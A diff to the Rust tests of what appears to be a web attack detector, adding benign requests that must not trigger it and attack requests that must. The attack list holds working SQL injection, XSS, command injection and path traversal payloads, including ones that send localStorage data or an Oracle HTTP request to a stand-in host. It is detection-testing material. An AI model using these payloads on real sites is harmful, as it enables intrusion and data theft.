@@ -263,7 +263,7 @@ mod tests {
     #[test]
     fn real_world_requests_stay_quiet_and_their_attack_twins_fire() {
         let mut sc = PayloadScratch::new();
-        let quiet: [(Payload, &str); 18] = [
+        let quiet: [(Payload, &str); 24] = [
             (Payload::Sqli, "/torrent/4191153/The+Squid+and+the+Whale+%282005%29+720p+BRRip+750MB+-+MkvCage.html"),
             (Payload::Sqli, "/torrent/4189693/Linux+Format+-+Ubuntu+15.04+The+Definitive+guide+to+the+Latest+Version+%28June+2015%29+%28True+PDF%29.html"),
             (Payload::Sqli, "/directory/add_facet_filter?facet=os&constraint=Grouping+and+Descriptive+Categories+%3A%3A+32-bit+MS+Windows+%2895%2F98%29"),
@@ -281,6 +281,12 @@ mod tests {
             (Payload::Traversal, "/women/view/2052/%D8%A8%D8%A7%D9%84%D8%B5%D9%88%D8%B1..%D9%83%D9%8A%D9%85-%D9%83%D8%A7..%D8%B1"),
             (Payload::Sqli, "/x?q=Clark%2C+Raven-Romance_+Three+Stories+of+Lust+and+Love+%28BWWM%2C+Alpha%29.epub"),
             (Payload::Traversal, "/login?next=../account&x=../images/photo.jpg"),
+            (Payload::Traversal, "/go?a=../orders/history&b=../home/dashboard&c=../blog/change_log"),
+            (Payload::Sqli, "/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html"),
+            (Payload::Sqli, "/uploads/2023-01/DBMS_Lab_Manual.pdf"),
+            (Payload::Sqli, "/plone/@@usergroup-userprefs"),
+            (Payload::Sqli, "/site/@@login-help"),
+            (Payload::Xss, "/s?q=wow+so+cool!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!"),
             (Payload::Cmdi, "/s?q=Sale+%7C+Last+chance%3B+more+info+%7C+users+guide&price=%245+or+less"),
         ];
         for (kind, request) in quiet {
@@ -290,7 +296,7 @@ mod tests {
                 kind.name()
             );
         }
-        let fire: [(Payload, &str); 27] = [
+        let fire: [(Payload, &str); 32] = [
             (Payload::Sqli, "/x?id=1+and+sleep+(5)"),
             (Payload::Sqli, "/x?id=1+and+ascii(substring(user(),1,1))>64"),
             (Payload::Sqli, "/x?id=-1+union+select+@@version"),
@@ -304,6 +310,11 @@ mod tests {
             ),
             (Payload::Xss, "/x?u=javascript:alert(1)"),
             (Payload::Xss, "/x?cb=confirm.call(null,1)"),
+            (Payload::Xss, "/x?u=javascript:void(0)%20;fetch('//e.x/'%2BlocalStorage.t)"),
+            (Payload::Cmdi, "/x?c=c:/tools/nc.exe"),
+            (Payload::Cmdi, "/x?c=/bin//id"),
+            (Payload::Sqli, "/x?q='%7C%7Cutl_http.request('http://e.x/')%7C%7C'"),
+            (Payload::Sqli, "/x?q=1+and+1=(select+@@global.version_compile_os)"),
             (Payload::Xss, "/x?cb=alert?.(document?.cookie)"),
             (Payload::Xss, "/x?cb=%5B%5D.sort.call%60%24%7Balert%7D1337%60"),
             (Payload::Xss, "/x?cb=(%21%5B%5D%2B%5B%5D)%5B%2B%21%2B%5B%5D%5D%2B(%21%5B%5D%2B%5B%5D)%5B%21%2B%5B%5D%2B%21%2B%5B%5D%5D"),
@@ -326,7 +337,7 @@ mod tests {
             ),
             (Payload::Traversal, "/x?f=..%c0%af..%c0%afetc%c0%afpasswd"),
             (Payload::Traversal, "/x?f=..%ef%bc%8f..%ef%bc%8fwin.ini"),
-            (Payload::Traversal, "/x?f=..%5C%2F%5Cetc%5C%2F%5Cpasswd"),
+            (Payload::Traversal, "/x?f=..%5C%2F%5Cetc%5C%2F%5Cgroup"),
             (Payload::Traversal, "/x?page=../etc/my.cnf"),
             (Payload::Traversal, "/x?page=../usr/local/php/lib/php.ini"),
             (Payload::Traversal, "/x?page=../logs/access.log"),
